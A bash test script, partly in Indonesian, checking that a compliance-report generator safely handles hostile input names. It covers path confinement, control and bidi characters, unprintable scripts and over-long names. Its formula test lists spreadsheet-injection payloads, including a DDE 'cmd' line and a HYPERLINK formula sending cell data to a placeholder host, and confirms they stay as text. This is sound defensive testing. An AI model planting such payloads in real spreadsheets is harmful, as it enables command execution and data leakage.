#!/usr/bin/env bash
# Hostile names in the input (tests/data/hostile/): whatever a name contains, nothing is
# written outside --out, file names are unique slugs of at most 100 bytes, spreadsheet
# formulas stay text, and invisible or control characters are refused with FILE:LINE:COL
# (line breaks and tabs inside a name are cleaned to one space).
source "$(dirname "$0")/lib.sh"
need python3 pdftotext unzip
D="$KP_SRC/tests/data/hostile"
ALL=(--piagam semua --piagam-tingkat semua --rapor-skpd --surat semua --per-provinsi)

# --- Formulas: data/*.csv neutralised with a leading ', the workbook holds text cells ------
expect_rc 0 "$KEPATUHAN" --quiet --out "$WORK/rumus" "${ALL[@]}" "$D/rumus.csv"
python3 - "$WORK/rumus/2023" <<'PY' || fail "rumus: lihat pesan di atas"
import csv, glob, re, sys, zipfile, xml.etree.ElementTree as ET
y = sys.argv[1]
names = ['=HYPERLINK("http://contoh.invalid/?a="&A1;"klik")', "+62 811 5000", "-1+2",
         "@SUM(1+1)", "=10*20", "+3+4", "=cmd|' /C calc'!A0", "@Badan Rumus", "-Lembaga Minus"]
number = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
seen, bad = set(), []
for path in glob.glob(y + "/data/*.csv"):
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.reader(f):
            for v in row:
                seen.add(v)
                if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(v):
                    bad.append((path, v))
for path, v in bad:
    print(f"{path}: sel {v!r} dapat dibaca sebagai rumus", file=sys.stderr)
missing = [n for n in names if "'" + n not in seen]
for n in missing:
    print("data/*.csv: tidak ada", repr("'" + n), file=sys.stderr)

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
unesc = lambda s: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), s)
z = zipfile.ZipFile(glob.glob(y + "/rekap-kepatuhan-*.xlsx")[0])
sst = [unesc("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
       for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS)]
used, formulas = set(), []
for sheet in [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]:
    root = ET.fromstring(z.read(sheet))
    for c in root.iter("{%s}c" % NS["m"]):
        f, v = c.find("m:f", NS), c.find("m:v", NS)
        if f is not None:
            formulas.append(f.text or "")
        if c.get("t") == "s" and v is not None:
            used.add(sst[int(v.text)])
lost = [n for n in names if n not in used]
for n in lost:
    print(f"rekap: {n!r} bukan sel teks", file=sys.stderr)
leaked = [f for f in formulas if any(n.lstrip("=+-@") in f for n in names)]
for f in leaked:
    print(f"rekap: rumus dari nama: <f>{f}</f>", file=sys.stderr)
sys.exit(1 if bad or missing or lost or leaked else 0)
PY

# --- Paths: every file inside --out, slugs unique, slug-shaped, at most 100 bytes ----------
mkdir -p "$WORK/cwd"
touch "$WORK/sebelum"
sleep 0.01
(cd "$WORK/cwd" && expect_rc 0 "$KEPATUHAN" --quiet --out "$WORK/cwd/out" "${ALL[@]}" "$D/jalur.csv")
outside=$(find "$WORK" -newer "$WORK/sebelum" ! -type d ! -path "$WORK/cwd/out/*" ! -name out.txt)
[ -z "$outside" ] || fail "berkas ditulis di luar --out: $outside"
[ ! -e /tmp/kp-keluar ] && [ ! -e /etc/kp-keluar ] || fail "berkas ditulis di /tmp atau /etc"
python3 - "$WORK/cwd/out/2023" <<'PY' || fail "jalur: lihat pesan di atas"
import csv, os, re, sys
y = sys.argv[1]
rows = lambda n: list(csv.DictReader(open(f"{y}/data/{n}.csv", newline="", encoding="utf-8")))
n_inst, n_skpd = len(rows("instansi")), len(rows("skpd"))
slug = re.compile(r"^[a-z0-9]+(-[a-z0-9]+)*$")
errs = []
for dirpath, dirs, files in os.walk(y):
    rel = os.path.relpath(dirpath, y)
    for part in ([] if rel == "." else rel.split(os.sep)) + [os.path.splitext(f)[0] for f in files]:
        if not slug.match(part) or len(part.encode()) > 100:
            errs.append(f"{rel}: nama {part!r} bukan slug <= 100 bita")
count = lambda d, depth: sum(1 for r, _, fs in os.walk(f"{y}/{d}") for f in fs
                             if f.endswith(".pdf") and os.path.relpath(r, f"{y}/{d}").count(os.sep)
                             + (0 if r == f"{y}/{d}" else 1) == depth)
want = {("surat", 0): n_inst, ("rapor", 0): n_inst, ("rapor-skpd", 1): n_skpd,
        ("piagam", 0): n_inst, ("piagam", 1): n_skpd}
for (d, depth), n in want.items():
    got = count(d, depth)
    if got != n:
        errs.append(f"{d}/ (kedalaman {depth}): {got} PDF, diharapkan {n} (slug ganda?)")
for e in errs:
    print(e, file=sys.stderr)
sys.exit(1 if errs else 0)
PY

# --- Names that differ only by case or accents are one entity: reported as duplicates -----
expect_rc 2 "$KEPATUHAN" --out "$WORK/aksen" "$D/aksen.csv"
contains "$WORK/out.txt" "aksen.csv:3: unit \"DINAS PARIWISATA\" (Kota Banjarbaru, 2023) ganda"
contains "$WORK/out.txt" "aksen.csv:4: unit \"Dinas Pariwisatá\" (Kota Banjarbaru, 2023) ganda"
[ ! -e "$WORK/aksen" ] || fail "aksen: keluaran ditulis padahal ada kesalahan"

# --- Control, zero-width and bidi characters: refused, each with FILE:LINE:COL ------------
# Rows alternate: even data rows carry the character in instansi (column 4), odd in skpd (6).
expect_rc 2 "$KEPATUHAN" --maks-kesalahan 100 --out "$WORK/kontrol" "$D/kontrol.csv"
n=$(($(wc -l <"$D/kontrol.csv") - 1))
for ((i = 0; i < n; i++)); do
    col=$((i % 2 ? 6 : 4))
    contains "$WORK/out.txt" "kontrol.csv:$((i + 2)):$col: "
done
[ ! -e "$WORK/kontrol" ] || fail "kontrol: keluaran ditulis padahal ada kesalahan"
expect_rc 2 "$KEPATUHAN" --out "$WORK/nul" "$D/nul.csv"
contains "$WORK/out.txt" "nul.csv:2:4: "

# --- Line breaks and tabs inside a name (Alt+Enter in Excel) become one space; typographic
# quotes and dashes (bytes 0x80-0x9F inside their UTF-8) are ordinary letters, not controls.
expect_rc 0 "$KEPATUHAN" --quiet --out "$WORK/bersih" "${ALL[@]}" "$D/bersih.csv"
for s in "Dinas Sosial" "Dinas Kesehatan" "Dinas Pendidikan" "Puskesmas Jum’at" \
    "Dinas Pemuda – “Olahraga”"; do
    contains "$WORK/bersih/2023/data/skpd.csv" "2023,Kalimantan Selatan,Kota Banjarbaru,$s,89.14,"
done
! grep -q $'\t\|\r' "$WORK"/bersih/2023/data/*.csv || fail "bersih: tab atau CR tersisa di data/*.csv"
# --- A name that is one very long word: letters cut it between characters rather than let
# it run off the page (certificates and report cards shrink and wrap names, never cut them).
expect_rc 0 "$KEPATUHAN" --quiet --piagam tidak --tanpa-rapor --surat semua --out "$WORK/panjang" \
    "$D/kata-panjang.csv"
for pdf in "$WORK"/panjang/2023/surat/*.pdf; do
    pdftotext -bbox "$pdf" - | awk -F'"' '/<page / { w = $2 } /<word / && $6 + 0 > w - 20 { bad = 1 }
        END { exit bad }' || fail "$pdf: kata melewati tepi kanan halaman"
done
# --- Identities never merge silently: a kode on two cities is refused at its cell (no
# output), names of other scripts are told apart, and a name without a letter is refused.
expect_rc 2 "$KEPATUHAN" --out "$WORK/kode" "$KP_SRC/tests/data/bad/kode_bentrok.csv"
contains "$WORK/out.txt" 'kode_bentrok.csv:3:3: kode "63.72" tahun 2024 dipakai untuk dua instansi'
[ ! -e "$WORK/kode" ] || fail "kode bentrok: folder keluaran dibuat"
printf '%s\n' 'tahun,provinsi,instansi,jenis,nilai' '2024,Kalimantan Selatan,Город,kota,88.00' \
    '2024,Kalimantan Selatan,Деревня,kota,80.00' '2024,Kalimantan Selatan,Puskesmas 東,kota,81.00' \
    '2024,Kalimantan Selatan,Puskesmas 西,kota,82.00' >"$WORK/aksara.csv"
expect_rc 0 "$KEPATUHAN" --quiet --piagam tidak --tanpa-rapor --tanpa-ringkasan --out "$WORK/aksara" \
    "$WORK/aksara.csv"
[ "$(grep -c '^2024,' "$WORK/aksara/2024/data/instansi.csv")" = 4 ] || fail "aksara lain: instansi digabung"
# ... and the documents, whose fonts print CP1252 only, refuse them at their cell (periksa too).
expect_rc 2 "$KEPATUHAN" periksa "$WORK/aksara.csv"
contains "$WORK/out.txt" 'aksara.csv:2:3: instansi "Kota Город": karakter U+0413 tidak dapat dicetak'
expect_rc 2 "$KEPATUHAN" --out "$WORK/aksara-dok" "$WORK/aksara.csv"
contains "$WORK/out.txt" 'aksara.csv:5:3: instansi "Kota Puskesmas 西": karakter U+897F'
[ ! -e "$WORK/aksara-dok" ] || fail "aksara lain: folder keluaran dibuat"
printf '%s\n' 'tahun,provinsi,instansi,jenis,nilai' '2024,Kalimantan Selatan,€,kota,88.00' >"$WORK/simbol.csv"
expect_rc 2 "$KEPATUHAN" periksa "$WORK/simbol.csv"
contains "$WORK/out.txt" 'simbol.csv:2:3: instansi "€" tidak berisi huruf atau angka'

# --- A name no shrinking fits (one word of 290 letters) is refused by periksa, at its cell,
# as the run refuses it; a unit's only when its own documents are asked for.
long=$(printf 'A%.0s' $(seq 1 290))
printf '%s\n' 'tahun,provinsi,instansi,jenis,skpd,nilai' "2024,Kalimantan Selatan,Kota $long,kota,,88.00" \
    >"$WORK/panjang.csv"
expect_rc 2 "$KEPATUHAN" periksa "$WORK/panjang.csv"
contains "$WORK/out.txt" 'panjang.csv:2:3: instansi "Kota AAAA'
contains "$WORK/out.txt" 'tidak muat di blok "instansi"'
expect_rc 2 "$KEPATUHAN" --out "$WORK/panjang-out" "$WORK/panjang.csv"
contains "$WORK/out.txt" 'panjang.csv:2:3: instansi "Kota AAAA'
[ ! -e "$WORK/panjang-out" ] || fail "nama panjang: folder keluaran dibuat"
expect_rc 0 "$KEPATUHAN" periksa --tanpa-rapor --piagam tidak "$WORK/panjang.csv"
printf '%s\n' 'tahun,provinsi,instansi,jenis,skpd,nilai' \
    "2024,Kalimantan Selatan,Kota Banjarbaru,kota,Dinas $long,88.00" >"$WORK/unit-panjang.csv"
expect_rc 0 "$KEPATUHAN" periksa "$WORK/unit-panjang.csv"
expect_rc 2 "$KEPATUHAN" periksa --rapor-skpd "$WORK/unit-panjang.csv"
contains "$WORK/out.txt" 'unit-panjang.csv:2:5: skpd "Dinas AAAA'
# A certificate given by score is measured once the scores are known: the best instansi's
# name is refused at its cell, the same name with a score that earns no certificate is not.
printf '%s\n' 'tahun,provinsi,instansi,jenis,skpd,nilai' "2024,Kalimantan Selatan,Kota $long,kota,,95.00" \
    '2024,Kalimantan Selatan,Kota Banjarbaru,kota,,40.00' >"$WORK/skor-panjang.csv"
expect_rc 2 "$KEPATUHAN" periksa --tanpa-rapor "$WORK/skor-panjang.csv"
contains "$WORK/out.txt" 'skor-panjang.csv:2:3: instansi "Kota AAAA'
contains "$WORK/out.txt" 'tidak muat di blok "penerima"'
expect_rc 2 "$KEPATUHAN" --tanpa-rapor --out "$WORK/skor-panjang-out" "$WORK/skor-panjang.csv"
contains "$WORK/out.txt" 'skor-panjang.csv:2:3: instansi "Kota AAAA'
[ ! -e "$WORK/skor-panjang-out" ] || fail "nama panjang berpiagam: folder keluaran dibuat"
sed -i 's/,95.00$/,41.00/; s/,40.00$/,95.00/' "$WORK/skor-panjang.csv"
expect_rc 0 "$KEPATUHAN" periksa --tanpa-rapor "$WORK/skor-panjang.csv"
printf '%s\n' 'tahun,provinsi,instansi,jenis,skpd,nilai' \
    "2024,Kalimantan Selatan,Kota Banjarbaru,kota,Dinas $long,95.00" \
    '2024,Kalimantan Selatan,Kota Banjarbaru,kota,Dinas B,40.00' >"$WORK/skor-unit.csv"
expect_rc 0 "$KEPATUHAN" periksa --tanpa-rapor "$WORK/skor-unit.csv"
expect_rc 2 "$KEPATUHAN" periksa --tanpa-rapor --piagam-tingkat skpd "$WORK/skor-unit.csv"
contains "$WORK/out.txt" 'skor-unit.csv:2:5: skpd "Dinas AAAA'

# --- Text of acara.ini and of a template that the fonts cannot print is refused when they
# load, at their file and line: by periksa (acara.ini) and by the run, before any document.
cp -r "$KP_SRC/templates" "$WORK/tpl-aksara"
sed -i '0,/^tempat *=.*/s//tempat = Банжарбару/' "$WORK/tpl-aksara/acara.ini"
line=$(grep -n '^tempat = Банжарбару' "$WORK/tpl-aksara/acara.ini" | cut -d: -f1)
expect_rc 2 "$KEPATUHAN" periksa --templat "$WORK/tpl-aksara" "$KP_SRC/samples/hasil-2023.csv"
contains "$WORK/out.txt" "tpl-aksara/acara.ini:$line: tempat: karakter U+0411 tidak dapat dicetak"
cp "$KP_SRC/templates/acara.ini" "$WORK/tpl-aksara/acara.ini"
sed -i 's/^text = PIAGAM PENGHARGAAN/text = PIAGAM ПЕНГ/' "$WORK/tpl-aksara/piagam/instansi.ini"
line=$(grep -n '^text = PIAGAM ПЕНГ' "$WORK/tpl-aksara/piagam/instansi.ini" | cut -d: -f1)
expect_rc 2 "$KEPATUHAN" --out "$WORK/tpl-aksara-out" --templat "$WORK/tpl-aksara" \
    "$KP_SRC/samples/hasil-2023.csv"
contains "$WORK/out.txt" "piagam/instansi.ini:$line: blok \"judul\": karakter U+041F tidak dapat dicetak"

# A rubric's label the fonts cannot print: refused when the rubric loads, at its line.
cp "$KP_SRC/templates/rubrik/ombudsman-2022.ini" "$WORK/rubrik-aksara.ini"
sed -i 's/^predikat = Kualitas Tertinggi/predikat = Kualitas Тертинггі/' "$WORK/rubrik-aksara.ini"
line=$(grep -n '^predikat = Kualitas Тертинггі' "$WORK/rubrik-aksara.ini" | cut -d: -f1)
expect_rc 2 "$KEPATUHAN" periksa --rubrik "$WORK/rubrik-aksara.ini" "$KP_SRC/samples/hasil-2023.csv"
contains "$WORK/out.txt" "rubrik-aksara.ini:$line: predikat: karakter U+0422 tidak dapat dicetak"

# --- Input that never ends a line is refused at its line within bounded memory, and no
# output folder is made.
expect_rc 2 timeout 20 "$KEPATUHAN" --out "$WORK/nol" /dev/zero
contains "$WORK/out.txt" "/dev/zero:1:1: baris lebih panjang dari 1 MiB"
[ ! -e "$WORK/nol" ] || fail "/dev/zero: folder keluaran dibuat"
echo "ok"
